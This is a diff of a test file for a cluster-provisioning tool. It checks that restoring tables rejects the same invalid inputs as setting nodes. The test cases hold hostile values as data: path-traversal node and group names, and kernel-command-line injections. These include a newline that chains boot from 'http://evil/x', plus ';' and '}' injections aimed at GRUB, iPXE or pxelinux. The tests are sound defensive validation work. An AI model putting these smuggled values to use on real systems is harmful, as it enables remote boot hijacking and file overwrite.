@@ -52,11 +52,16 @@ afterAll(() => sb.cleanup());
 
 describe("table restore refuses what node set refuses", () => {
   const cases: [string, string, string, RegExp][] = [
-    ["nodelist", "#node,groups\n\"good03\",\"all\"\n\"../../../../victim/pwned\",\"all\"\n", "3", /invalid node name '\.\.\/\.\.\/\.\.\/\.\.\/victim\/pwned'/],
+    ["nodelist", '#node,groups\n"good03","all"\n"../../../../victim/pwned","all"\n', "3", /invalid node name '\.\.\/\.\.\/\.\.\/\.\.\/victim\/pwned'/],
     ["nodelist", '#node,groups\n"cn1","all,../../x"\n', "2", /invalid group name '\.\.\/\.\.\/x'/],
     ["nodegroup", '#groupname,grouptype\n"../g","static"\n', "2", /invalid group name/],
     ["mac", '#node,interface,mac\n"good01",,"52:54:00:00:00:01"\n"good02",,"/../../../../victim/pwned"\n', "3", /is not a MAC address/],
-    ["bootparams", '#node,addkcmdline\n"good01","quiet\nchain http://evil/x"\n', "2", /bootparams\.addkcmdline 'quiet\\nchain http:\/\/evil\/x' contains a control character/],
+    [
+      "bootparams",
+      '#node,addkcmdline\n"good01","quiet\nchain http://evil/x"\n',
+      "2",
+      /bootparams\.addkcmdline 'quiet\\nchain http:\/\/evil\/x' contains a control character/,
+    ],
     ["bootparams", '#node,addkcmdline\n"good02","quiet; linux /evil"\n', "2", /contains ';', which GRUB, iPXE or pxelinux would interpret/],
     ["linuximage", `#imagename,addkcmdline\n"${IMG}","console=tty0 }"\n`, "2", /contains '\}'/],
     ["linuximage", `#imagename,rootimgdir\n"${IMG}","relative/dir"\n`, "2", /rootimgdir must be an absolute path/],
